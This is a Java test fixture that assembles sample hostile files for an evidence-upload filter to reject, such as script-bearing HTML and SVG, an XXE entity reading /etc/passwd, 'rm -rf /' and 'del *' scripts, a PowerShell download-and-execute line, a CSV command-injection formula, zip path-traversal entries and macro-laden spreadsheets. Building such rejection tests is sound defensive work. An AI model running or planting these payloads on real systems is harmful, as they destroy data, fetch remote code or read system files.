package yingshang.evidence;

import static yingshang.evidence.Samples.bytes;
import static yingshang.evidence.Samples.joined;
import static yingshang.evidence.Samples.xlsx;
import static yingshang.evidence.Samples.xlsxWith;
import static yingshang.evidence.Samples.zip;

import java.util.Arrays;
import java.util.Map;
import java.util.TreeMap;

/** Files that must not pass for evidence, by what they are. */
public final class HostileFiles {

    private HostileFiles() {}

    public static Map<String, byte[]> all() {
        Map<String, byte[]> files = new TreeMap<>();
        texts(files);
        binaries(files);
        archives(files);
        spreadsheets(files);
        return files;
    }

    private static void texts(Map<String, byte[]> files) {
        files.put("html", bytes("<!DOCTYPE html><html><script>alert(1)</script></html>"));
        files.put("html before a pdf", joined(bytes("<html><script>1</script>\n"), Samples.pdf()));
        files.put("xhtml", bytes("<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"/>"));
        files.put("svg", bytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"));
        files.put("xml", bytes("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x/>"));
    }

    private static void binaries(Map<String, byte[]> files) {
        files.put("windows program", joined(bytes("MZ\u0090\0\3\0\0\0\4\0\0\0"), new byte[200]));
        files.put("linux program", joined(bytes("\u007fELF\2\1\1"), new byte[100]));
        files.put("java class", joined(bytes("\u00ca\u00fe\u00ba\u00be\0\0\0="), new byte[50]));
        files.put("shell script", bytes("#!/bin/sh\nrm -rf /\n"));
        files.put("batch file", bytes("@echo off\r\ndel *\r\n"));
        files.put("powershell", bytes("Invoke-WebRequest http://x | iex"));
        files.put("text", bytes("just text"));
        files.put("csv with a formula", bytes("a,b\n=cmd|' /C calc'!A0,1\n"));
        files.put("one byte", bytes("x"));
        files.put("zeros", new byte[5000]);
        files.put("pdf header cut short", bytes("%PD"));
        files.put("png header cut short", bytes("\u0089PN"));
        files.put("gif", bytes("GIF89a<script>"));
        files.put("tiff", joined(bytes("II*\0"), new byte[100]));
        files.put(
                "old excel or word", joined(bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"), new byte[600]));
        files.put("rtf", bytes("{\\rtf1 x}"));
        files.put("gzip", bytes("\u001f\u008b\b\0\0\0\0\0\0\3\1\0\0\u00ff\u00ff\0\0\0\0\0\0\0\0"));
        files.put("seven zip", bytes("7z\u00bc\u00af\u0027\u001c\0\4"));
    }

    private static void archives(Map<String, byte[]> files) {
        files.put("any zip", zip("readme.txt", "x"));
        files.put("empty zip", zip());
        files.put("zip cut short", Arrays.copyOf(xlsx(), 300));
        files.put("zip of nothing but its first bytes", bytes("PK\3\4"));
    }

    private static void spreadsheets(Map<String, byte[]> files) {
        files.put("spreadsheet with macros", xlsxWith("xl/vbaProject.bin", "x"));
        files.put("spreadsheet with macros in odd letters", xlsxWith("XL/VbAprojECT.bin", "x"));
        files.put("spreadsheet with excel 4 macros", xlsxWith("xl/macrosheets/sheet1.xml", "<x/>"));
        files.put("spreadsheet with a control", xlsxWith("xl/activeX/activeX1.xml", "<x/>"));
        files.put("spreadsheet with an embedded file", xlsxWith("xl/embeddings/oleObject1.bin", "x"));
        files.put("spreadsheet with a program", xlsxWith("xl/media/setup.exe", "MZ"));
        files.put("spreadsheet that leads out", xlsxWith("../../etc/cron.d/x", "x"));
        files.put("spreadsheet that begins at the root", xlsxWith("/etc/passwd", "x"));
        files.put(
                "macro workbook",
                zip(
                        Samples.CONTENT_TYPES,
                        "<Types ContentType=\"application/vnd.ms-excel.sheet.macroEnabled" + ".main+xml\"/>",
                        "xl/workbook.xml",
                        "<workbook/>"));
        files.put(
                "word document",
                zip(
                        Samples.CONTENT_TYPES,
                        "<Types ContentType=\"application/vnd.openxmlformats-officedocument"
                                + ".wordprocessingml.document.main+xml\"/>",
                        "word/document.xml",
                        "<x/>"));
        files.put(
                "content types without a workbook",
                zip(
                        Samples.CONTENT_TYPES,
                        "application/vnd.openxmlformats-officedocument" + ".spreadsheetml.sheet.main+xml"));
        files.put(
                "ods with macros",
                zip("mimetype", Samples.ODS_TYPE, "content.xml", "<x/>", "Basic/Standard/Module1.xml", "x"));
        files.put("odt", zip("mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<x/>"));
        files.put("jar", zip("META-INF/MANIFEST.MF", "Main-Class: X", "X.class", "x"));
        files.put("apk", zip("AndroidManifest.xml", "x", "classes.dex", "x"));
        files.put("ofd by name only", zip("OFD.xml", "<x/>"));
        files.put("program before a spreadsheet", joined(bytes("MZ\u0090\0\3\0\0\0"), xlsx()));
    }
}
